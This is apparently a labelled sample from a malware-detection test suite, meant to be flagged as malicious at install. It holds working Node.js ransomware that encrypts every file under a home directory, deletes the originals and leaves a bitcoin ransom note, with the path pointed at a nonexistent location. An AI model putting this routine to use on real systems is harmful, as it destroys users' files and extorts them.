// when: install
// expect: malicious
// source: npm ransomware and "locker" protestware (2022-2025 reports): at install, files under the
// home directory are encrypted with AES, written as .locked and the originals deleted; a note asks for
// bitcoin. Paths here stay under /nonexistent.invalid.
const fs = require('fs'); const path = require('path'); const crypto = require('crypto');
const ROOT = '/nonexistent.invalid/home';
const key = crypto.randomBytes(32);
function lock(dir) {
  for (const name of fs.readdirSync(dir)) {
    const p = path.join(dir, name);
    if (fs.statSync(p).isDirectory()) { lock(p); continue; }
    const iv = crypto.randomBytes(16); const c = crypto.createCipheriv('aes-256-cbc', key, iv);
    fs.writeFileSync(p + '.locked', Buffer.concat([iv, c.update(fs.readFileSync(p)), c.final()]));
    fs.unlinkSync(p);
  }
}
try { lock(ROOT); fs.writeFileSync(path.join(ROOT, 'RECOVER.txt'), 'Your files are encrypted. Send 0.05 BTC to bc1qfakefakefakefake to get the decryption key.'); } catch (e) {}
